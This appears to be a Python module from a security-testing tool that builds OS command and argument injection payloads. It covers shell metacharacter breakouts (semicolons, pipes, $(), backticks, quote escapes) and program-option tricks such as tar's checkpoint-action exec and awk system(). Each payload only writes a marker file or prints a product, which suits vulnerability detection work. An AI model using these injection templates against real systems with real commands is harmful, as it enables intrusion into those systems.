"""Shell commands and options of programs (CWE-78, CWE-88): a file appears, a product is computed.

The commands need no slash, so that they fit one segment of a path: `cd` goes home, where the
attack watches. Options are tried as one argument; `tar`'s checkpoint needs two words.
"""

from __future__ import annotations

from stockade.tools.attack.model import Evidence, Payload, Technique
from stockade.tools.attack.payloads import Aim

__all__ = ["TECHNIQUES"]


def _breaks(template: str) -> str:
    if "'" in template:
        return "'"
    # What works between double quotes works bare as well.
    return '"$`\\' if any(character in template for character in '"$`') else ""


def _command(id: str, template: str, *, representative: bool = False) -> Technique:
    """It makes a file."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        command = f"cd;echo {aim.content}>{aim.mark}"
        text = template.replace("COMMAND", command)
        return (Payload(text, Evidence((), aim.mark, aim.content)),)

    return Technique(id, make, representative, _breaks(template))


def _output(id: str, template: str) -> Technique:
    """It prints a product that stands in no part of the payload."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        first, second = aim.factors
        return (Payload(template.format(first, second), Evidence((aim.product,))),)

    return Technique(id, make, breaks_out_with=_breaks(template))


def _option(id: str, template: str, *, representative: bool = False) -> Technique:
    """It is an option of the program that gets it: one that writes a file, or runs a command."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        command = f"cd;echo${{IFS}}{aim.content}>{aim.mark}"  # one word, for what splits at blanks
        text = template.replace("COMMAND", command).replace("FILE", f"{aim.outside}/{aim.mark}")
        return (Payload(text, Evidence((), aim.mark)),)

    return Technique(id, make, representative, "-")


def _redirection(aim: Aim) -> tuple[Payload, ...]:
    return (Payload(f"x>{aim.outside}/{aim.mark}", Evidence((), aim.mark)),)


def _and_only(aim: Aim) -> tuple[Payload, ...]:
    text = f"tea menu.txt&&cd&&echo {aim.content}>{aim.mark} #"
    return (Payload(text, Evidence((), aim.mark, aim.content)),)


def _awk(aim: Aim) -> tuple[Payload, ...]:
    text = f'1;system("cd;echo {aim.content}>{aim.mark}")'
    return (Payload(text, Evidence((), aim.mark, aim.content)),)


TECHNIQUES = (
    _command("shell.semicolon", "x;COMMAND;", representative=True),
    _command("shell.comment", "x;COMMAND #"),
    _command("shell.and", "x&&COMMAND"),
    _command("shell.or", "nothing-like-this||COMMAND"),
    _command("shell.background", "x& COMMAND"),
    _command("shell.pipe", "x|(COMMAND)"),
    _command("shell.newline", "x\nCOMMAND\n"),
    _command("shell.substitution", "$(COMMAND)", representative=True),
    _command("shell.backticks", "`COMMAND`"),
    _command("shell.single-quote", "x';COMMAND;'", representative=True),
    _command("shell.double-quote", 'x";COMMAND;"'),
    _output("shell.output", "x;expr {} \\* {};"),
    _output("shell.output-single-quote", "x';expr {} \\* {};'"),
    _output("shell.output-double-quote", 'x";expr {} \\* {};"'),
    Technique("shell.redirection", _redirection, representative=True),
    Technique("shell.and-only", _and_only),
    Technique("shell.awk", _awk),
    _option("shell.option.output", "--output=FILE", representative=True),
    _option("shell.option.output-short", "-oFILE"),
    _option("shell.option.compress-program", "--use-compress-program=COMMAND"),
    _option("shell.option.compress-program-short", "-ICOMMAND"),
    _option(
        "shell.option.checkpoint",
        "--checkpoint=1 --checkpoint-action=exec=COMMAND",
        representative=True,
    ),
)
